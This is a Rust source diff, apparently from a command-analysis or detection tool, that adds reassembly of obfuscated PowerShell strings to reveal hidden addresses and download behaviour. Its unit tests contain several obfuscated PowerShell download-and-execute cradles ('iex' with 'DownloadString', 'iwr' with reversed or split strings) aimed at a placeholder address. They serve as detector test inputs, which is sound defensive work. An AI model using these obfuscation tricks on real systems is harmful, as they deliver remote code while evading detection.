@@ -4,6 +4,7 @@
 
 use data_encoding::BASE64;
 
+use super::powershell;
 use crate::dissect::text::utf16;
 
 /// Layers that are decoded, and octets of one.
@@ -88,6 +89,22 @@ pub fn loads(text: &str) -> bool {
 }
 
 fn layers(text: &str) -> Vec<String> {
+    let mut found = encoded(text);
+    // Put together, it is worth a word where it says more.
+    let says_more = |plain: &String| {
+        let mut named = Vec::new();
+        addresses(plain, &mut named);
+        named.iter().any(|address| !text.contains(address))
+            || (loads(plain) && !loads(text))
+            || encoded(plain).iter().any(|e| !found.contains(e))
+    };
+    let plain = powershell::plain(text).filter(says_more);
+    found.extend(plain);
+    found.extend(characters(text));
+    found
+}
+
+fn encoded(text: &str) -> Vec<String> {
     let mut found = Vec::new();
     let is_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
     let words = text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ',' | ';' | '`')).filter(|w| !w.is_empty());
@@ -101,7 +118,6 @@ fn layers(text: &str) -> Vec<String> {
         }
         is_option = option.is_some_and(|o| o == "ec" || (!o.is_empty() && ENCODED.starts_with(&o)));
     }
-    found.extend(characters(text));
     found
 }
 
@@ -206,6 +222,19 @@ mod tests {
     fn characters_are_put_together() {
         let command = look("&([char]105+[char]101+[char]120) ([char[]](104,116,116,112,58,47,47,97,46,98,47) -join '')");
         assert!(command.decoded.iter().any(|d| d.contains("http://a.b/")), "{command:?}");
+    }
+
+    #[test]
+    fn pieces_are_put_together_where_they_say_more() {
+        for text in [
+            "powershell -c \"&('i'+'ex') (New-Object Net.WebClient).('Downl'+'oadString').Invoke('ht'+'tp://192.0.2.1/a')\"",
+            "$u=(\"{2}{0}{1}\" -f '://192.0','.2.1/a','http'); i`wr $u",
+            "iwr ('a/1.2.0.291//:ptth'[-1..-20] -join '')",
+            "iwr 'hxxp://192.0.2.1/a'.replace('xx','tt')",
+        ] {
+            assert_eq!(look(text).addresses, ["http://192.0.2.1/a"], "{text}");
+        }
+        assert_eq!(look("$a = 'one' + 'two'; Write-Host $a"), Command::default());
     }
 
     #[test]
